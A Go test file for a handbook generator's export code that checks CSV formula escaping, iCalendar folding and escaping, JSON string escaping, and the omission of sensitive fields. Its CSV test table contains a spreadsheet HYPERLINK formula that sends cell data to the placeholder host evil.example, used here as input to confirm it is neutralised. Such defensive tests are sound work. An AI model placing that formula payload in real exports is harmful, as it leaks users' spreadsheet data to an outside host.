package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/handbook-nhs/handbook/generator/site"
	"github.com/handbook-nhs/handbook/generator/sitetest"
)

// TestCSV checks that rows read back through encoding/csv as written,
// whatever the values hold, a value a spreadsheet would take for a
// formula with an apostrophe in front.
func TestCSV(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{"+44 1632 960100", "'+44 1632 960100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r\n=1+1", "'\n=1+1"}, // encoding/csv reads CRLF in a field as LF
		{"\n=1+1", "'\n=1+1"},
		{"Docman 10", "Docman 10"},
		{"a=b, c-d", "a=b, c-d"},
		{"'quoted", "'quoted"},
		{`quote "here"`, `quote "here"`},
		{"semi;colon", "semi;colon"},
		{"line\nbreak", "line\nbreak"},
		{"Zoë’s “forms” — 10°", "Zoë’s “forms” — 10°"},
		{" leading space", " leading space"},
		{`back\slash`, `back\slash`},
		{"", ""},
	} {
		row := appendCSVRow(nil, []string{tt.in, "next"})
		if !bytes.HasSuffix(row, []byte("\"next\"\r\n")) || !bytes.HasPrefix(row, []byte(`"`)) {
			t.Errorf("%q: the row is not quoted and ended by CRLF: %q", tt.in, row)
		}
		got, err := csv.NewReader(bytes.NewReader(row)).Read()
		if err != nil {
			t.Errorf("%q: %v", tt.in, err)
			continue
		}
		if len(got) != 2 || got[0] != tt.want {
			t.Errorf("%q reads back as %q, want %q", tt.in, got, tt.want)
		}
	}
}

// unfold undoes line folding and splits an iCalendar stream into its
// content lines, checking every physical line on the way.
func unfold(t *testing.T, data string) []string {
	t.Helper()
	if !strings.HasSuffix(data, "\r\n") {
		t.Fatalf("does not end with CRLF")
	}
	var lines []string
	for i, l := range strings.Split(strings.TrimSuffix(data, "\r\n"), "\r\n") {
		if strings.ContainsAny(l, "\r\n") {
			t.Errorf("line %d: a bare CR or LF: %q", i+1, l)
		}
		if len(l) > 75 {
			t.Errorf("line %d: %d octets, more than 75: %q", i+1, len(l), l)
		}
		if !utf8.ValidString(l) {
			t.Errorf("line %d: a UTF-8 sequence split by folding: %q", i+1, l)
		}
		// A continuation line starts with one space, which unfolding
		// takes away; a second would be part of the value.
		if rest, ok := strings.CutPrefix(l, " "); ok && len(lines) > 0 {
			lines[len(lines)-1] += rest
			continue
		}
		lines = append(lines, l)
	}
	return lines
}

func TestFoldAndEscape(t *testing.T) {
	texts := []string{
		"short",
		strings.Repeat("a", 200),
		strings.Repeat("é", 100), // two octets each
		strings.Repeat("x€", 60), // three octets, at odd offsets
		strings.Repeat("🚑", 40),  // four octets
		"Reprint the forms, then file them; ask Zoë about C:\\forms\nand the “paper” list",
		"tab\there, CRLF\r\nline, CR\ronly",
		"control\x01\x7fcharacters",
		"bad \xff UTF-8, and a lone CR at the end\r",
	}
	for _, text := range texts {
		w := &icalWriter{}
		w.text("DESCRIPTION", text)
		lines := unfold(t, string(w.b))
		if len(lines) != 1 {
			t.Fatalf("%q: %d content lines, want 1", text, len(lines))
		}
		value, ok := strings.CutPrefix(lines[0], "DESCRIPTION:")
		if !ok {
			t.Fatalf("%q: content line %q", text, lines[0])
		}
		want := strings.ToValidUTF8(strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x01", "", "\x7f", "").Replace(text), "\uFFFD")
		got, err := sitetest.UnescapeICSText(value)
		if err != nil {
			t.Errorf("%q: %v", text, err)
		} else if got != want {
			t.Errorf("%q unfolds and unescapes to %q", want, got)
		}
		if strings.ContainsAny(value, "\n\r") {
			t.Errorf("%q: a raw line break in the value", text)
		}
	}
}

// TestJSONString checks that any text a record holds reads back from the
// JSON as written, invalid UTF-8 aside, and that U+2028 and U+2029, which
// end a line for some readers that take JSON for JavaScript, are escaped.
func TestJSONString(t *testing.T) {
	for _, s := range []string{
		"", "plain", `"quoted" \ back`, "line\nbreak\ttab\r", "\x00\x01\x1f\x7f",
		"Zoë’s “forms” — 10°", "\u2028\u2029", "bad \xff UTF-8", "</script><b>&amp;",
	} {
		w := New(&site.Handbook{}, site.Date{}).newWriter()
		w.begin()
		w.field("s", s)
		w.end()
		data := w.bytes()
		var got struct{ S string }
		if err := json.Unmarshal(data, &got); err != nil {
			t.Errorf("%q writes as %s, not JSON: %v", s, data, err)
			continue
		}
		if want := strings.ToValidUTF8(s, "\uFFFD"); got.S != want {
			t.Errorf("%q reads back as %q", want, got.S)
		}
		if bytes.ContainsAny(data, "\u2028\u2029") {
			t.Errorf("%q: U+2028 or U+2029 written raw", s)
		}
	}
}

// TestFieldsOf checks that records are written from their toml tags,
// leave out what is sensitive, and may not use a key export adds.
func TestFieldsOf(t *testing.T) {
	type rec struct {
		Name   string `toml:"name,required"`
		Secret string `toml:"secret" sensitive:"true"`
		Ref    *rec
		Count  int `toml:"count"`
	}
	w := New(&site.Handbook{}, site.Date{}).newWriter()
	w.value(reflect.ValueOf(rec{Name: "n", Secret: "s", Count: 2}))
	data := w.bytes()
	var got map[string]any
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatalf("%s: %v", data, err)
	}
	if len(got) != 2 || got["name"] != "n" || got["count"] != 2.0 {
		t.Errorf("wrote %s; want name and count only", data)
	}

	type clash struct {
		ID string `toml:"id"`
	}
	defer func() {
		if recover() == nil {
			t.Error("a record with a TOML key id did not panic")
		}
	}()
	fieldsOf(reflect.TypeFor[clash]())
}
